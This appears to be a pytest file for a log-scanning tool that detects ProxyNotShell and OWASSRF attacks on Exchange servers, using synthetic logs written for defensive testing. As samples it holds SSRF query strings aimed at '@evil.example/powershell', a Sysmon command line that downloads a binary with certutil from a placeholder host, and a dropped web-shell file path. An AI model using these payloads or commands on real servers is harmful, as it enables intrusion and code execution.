"""ProxyNotShell / OWASSRF rules PN1-PN5: positive and negative samples through the real scan path.

All log lines are synthetic, shaped after the public descriptions (GTSC, Microsoft, CrowdStrike).
"""

from __future__ import annotations

from pathlib import Path

from lekdicht.catalog.kinds import ArtefactKind
from lekdicht.model import Verdict
from support.logsynth import (
    event_ids,
    httpproxy,
    httpproxy_file,
    iis_file,
    iis_line,
    rps_http,
    rps_http_file,
    scan_text,
)

PN_CVES = ["CVE-2022-41040", "CVE-2022-41082"]
OWASSRF_CVES = ["CVE-2022-41080", "CVE-2022-41082"]
PNS_QUERY = "@evil.example/powershell/?Email=autodiscover/autodiscover.json%3F@evil.example"
CHROME_105 = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+Chrome/105.0.5195.54+Safari/537.36"


def _iis(tmp_path: Path, *lines: str) -> list[tuple[str, int | None]]:
    return [
        (f.rule_id, f.evidence.line) for f in scan_text(tmp_path, ArtefactKind.IIS_W3C, iis_file(list(lines)))
    ]


def test_pn1_authenticated_autodiscover_powershell_tiers(tmp_path: Path) -> None:
    findings = scan_text(
        tmp_path,
        ArtefactKind.IIS_W3C,
        iis_file(
            [
                iis_line("POST", "/autodiscover/autodiscover.json", "200", PNS_QUERY, user="EXAMPLE\\anna"),
                iis_line("POST", "/autodiscover/autodiscover.json", "401", PNS_QUERY, user="EXAMPLE\\anna"),
                iis_line(
                    "GET", "/autodiscover/autodiscover.json", "200", "@x/mapi/nspi/", user="anna@example.org"
                ),
            ]
        ),
    )
    assert [(f.rule_id, f.evidence.line) for f in findings] == [
        ("PN1-iis-autodiscover-powershell-success", 5),
        ("PN1-iis-autodiscover-powershell-failed", 6),
        ("PN1-iis-autodiscover-powershell-success", 7),
    ]
    assert findings[0].verdict is Verdict.EXPLOITED and findings[0].cves == PN_CVES
    assert findings[0].entities.account == "EXAMPLE\\anna"


def test_pn1_is_evaluated_per_line_on_the_decoded_url(tmp_path: Path) -> None:
    """Encoded variants that bypassed the early URL Rewrite rule; other lines do not change the result."""
    lines = [
        iis_line("GET", "/owa/", "404", user="EXAMPLE\\bob"),
        iis_line(
            "POST",
            "/autodiscover/autodiscover.json",
            "200",
            "@evil.example/%50ower%73hell/?&Email=autodiscover/autodiscover.json%3F@evil.example",
            user="EXAMPLE\\anna",
        ),
        iis_line(
            "POST", "/autodiscover/autodiscover.json", "200", "a=PowerShell", user="EXAMPLE\\anna", port="444"
        ),
        iis_line("GET", "/ecp/", "401"),
    ]
    assert _iis(tmp_path, *lines) == [
        ("PN1-iis-autodiscover-powershell-success", 6),
        ("PN1-iis-autodiscover-powershell-success", 7),
    ]


def test_pn1_negatives_and_poc_checks(tmp_path: Path) -> None:
    lines = [
        iis_line("POST", "/Autodiscover/Autodiscover.xml", user="EXAMPLE\\anna"),
        iis_line("POST", "/powershell", query="clientApplication=EMS;PSVersion=5.1", user="EXAMPLE\\admin"),
        iis_line(  # Nessus-style probe: a probe, never PN1
            "GET",
            "/autodiscover/autodiscover.json",
            "302",
            "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com",
        ),
        iis_line("GET", "/autodiscover/admin@localhost/", "200"),
        iis_line("POST", "/autodiscover/autodiscover.json", "200", "x=a"),
    ]
    assert _iis(tmp_path, *lines) == [
        ("PS1-iis-autodiscover-probe", 7),
        ("PN1-iis-poc-check", 8),
        ("PN1-iis-poc-check", 9),
    ]


def test_pn1_httpproxy(tmp_path: Path) -> None:
    base = {
        "Protocol": "Autodiscover",
        "UrlStem": "/autodiscover/autodiscover.json",
        "UrlQuery": "?" + PNS_QUERY,
        "AuthenticatedUser": "anna@example.org",
        "IsAuthenticated": "true",
    }
    lines = [
        httpproxy(**base),
        httpproxy(**{**base, "HttpStatus": "404"}),
        httpproxy(
            Protocol="Autodiscover",
            UrlStem="/autodiscover/autodiscover.xml",
            AuthenticatedUser="anna@example.org",
        ),
    ]
    hits = [
        (f.rule_id, f.evidence.line)
        for f in scan_text(tmp_path, ArtefactKind.HTTPPROXY, httpproxy_file(lines))
    ]
    assert hits == [
        ("PN1-httpproxy-autodiscover-powershell-success", 6),
        ("PN1-httpproxy-autodiscover-powershell-failed", 7),
    ]


def test_pn2_owassrf_iis(tmp_path: Path) -> None:
    lines = [
        iis_line("POST", "/owa/mastermailbox%40outlook.com/powershell", "200", ua=CHROME_105),
        iis_line("POST", "/owa/anna@example.org/powershell", "200", user="EXAMPLE\\anna"),
        iis_line("POST", "/owa/anna@example.org/powershell", "401"),
        iis_line("POST", "/owa/anna@example.org/powershell", "200", ua="Microsoft+WinRM+Client"),  # negative
        iis_line("POST", "/owa/service.svc", "200", "action=GetFolder", user="EXAMPLE\\anna"),  # negative
    ]
    findings = scan_text(tmp_path, ArtefactKind.IIS_W3C, iis_file(lines))
    assert [(f.rule_id, f.evidence.line) for f in findings] == [
        ("PN2-iis-owassrf-success", 5),
        ("PN2-iis-owassrf-success", 6),
        ("PN2-iis-owassrf-failed", 7),
    ]
    assert findings[0].cves == OWASSRF_CVES and findings[0].verdict is Verdict.EXPLOITED


def test_pn2_backend_powershell_without_query(tmp_path: Path) -> None:
    lines = [
        iis_line("POST", "/powershell", "200", user="EXAMPLE\\anna", ip="::1", port="444", ua=CHROME_105),
        # negatives: Exchange's own client, a query, the front end
        iis_line(
            "POST",
            "/powershell",
            "200",
            user="EXAMPLE\\anna",
            ip="::1",
            port="444",
            ua="Microsoft+WinRM+Client",
        ),
        iis_line(
            "POST",
            "/powershell",
            "200",
            "clientApplication=ActiveMonitor;PSVersion=5.1",
            "EX\\hm",
            port="444",
        ),
        iis_line("POST", "/powershell", "200", user="EXAMPLE\\anna", ua=CHROME_105),
    ]
    assert _iis(tmp_path, *lines) == [("PN2-iis-backend-powershell-foreign-client", 5)]


def test_pn2_httpproxy_owassrf(tmp_path: Path) -> None:
    lines = [
        httpproxy(
            Protocol="Owa",
            UrlStem="/owa/mastermailbox%40outlook.com/powershell",
            UserAgent="Mozilla/5.0 Chrome/105",
        ),
        httpproxy(Protocol="Owa", UrlStem="/owa/x@example.org/powershell", HttpStatus="500"),
        httpproxy(Protocol="PowerShell", UrlStem="/powershell", UserAgent="Microsoft WinRM Client"),
    ]
    hits = [
        (f.rule_id, f.evidence.line)
        for f in scan_text(tmp_path, ArtefactKind.HTTPPROXY, httpproxy_file(lines))
    ]
    assert hits == [("PN2-httpproxy-owassrf-success", 6), ("PN2-httpproxy-owassrf-failed", 7)]


def test_pn3_rps_http_clientinfo_with_hop_chain(tmp_path: Path) -> None:
    lines = [
        rps_http(
            ClientInfo="Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/105.0.5195.54",
            ClientIpAddress="198.51.100.23 10.0.0.5",
            FrontEndServer="EXCH02.example.org",
            AuthenticatedUser="anna@example.org",
        ),
        rps_http(ClientInfo="python-requests/2.28.1", HttpStatus="500"),
        rps_http(),  # Microsoft WinRM Client
        rps_http(ClientInfo="Exchange BackEnd Probes", AuthenticatedUser="HealthMailbox1@example.org"),
        rps_http(ClientInfo=""),
    ]
    findings = scan_text(
        tmp_path, ArtefactKind.RPS_HTTP, rps_http_file(lines, bare_header=True), "Rps_Http_2022100302-1.LOG"
    )
    hits = [(f.rule_id, f.evidence.line) for f in findings]
    assert hits == [
        ("PN3-rpshttp-clientinfo-success", 7),
        ("PN3-rpshttp-clientinfo-failed", 8),
        ("PN4-rpshttp-kerberos-post-no-clientinfo", 11),
    ]
    f = findings[0]
    assert f.verdict is Verdict.EXPLOITED
    assert f.cves == ["CVE-2022-41040", "CVE-2022-41080", "CVE-2022-41082"]
    assert f.entities.account == "anna@example.org"
    assert f.entities.client_ip == "198.51.100.23"  # the originating client; the chain stays in the excerpt
    assert "198.51.100.23 10.0.0.5" in f.evidence.excerpt
    assert "EXCH02.example.org" in f.evidence.excerpt and "EXCH01" in f.evidence.excerpt
    pn4 = findings[2]
    assert pn4.requires_corroboration and pn4.verdict is Verdict.SUSPICIOUS


def test_pn5_powershell_apppool_child_and_known_files(tmp_path: Path) -> None:
    sysmon = {"@timestamp": "2022-10-03T02:20:00.000Z", "Channel": "Microsoft-Windows-Sysmon/Operational"}
    child = {
        **sysmon,
        "EventID": 1,
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": "cmd.exe /c certutil -urlcache -f http://x/a C:\\PerfLogs\\cm.exe",
        "ParentImage": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        "ParentCommandLine": 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangePowerShellAppPool" -v "v4.0"',
    }
    assert event_ids(tmp_path, child) == {"PN5-powershell-apppool-child-process"}
    owa_child = {**child, "ParentCommandLine": 'w3wp.exe -ap "MSExchangeOWAAppPool"'}
    assert event_ids(tmp_path, owa_child) == {"HX4-w3wp-shell-child"}
    csc = {
        **child,
        "Image": "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
        "CommandLine": "csc.exe /noconfig",
    }
    assert event_ids(tmp_path, csc) == set()
    drop = {
        **sysmon,
        "EventID": 11,
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "TargetFilename": "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\pxh4HG1v.ashx",
    }
    assert {"PN5-known-file-event", "WS2-event-web-folder-script-write"} == event_ids(tmp_path, drop)
    tool = {
        **sysmon,
        "EventID": 1,
        "Image": "C:\\Users\\Public\\ad.exe",
        "CommandLine": "ad.exe",
        "ParentImage": "x",
    }
    assert event_ids(tmp_path, tool) == {"PN5-known-file-event"}
    benign = {
        **sysmon,
        "EventID": 11,
        "Image": "C:\\x\\explorer.exe",
        "TargetFilename": "C:\\Users\\Public\\notes.txt",
    }
    assert event_ids(tmp_path, benign) == set()
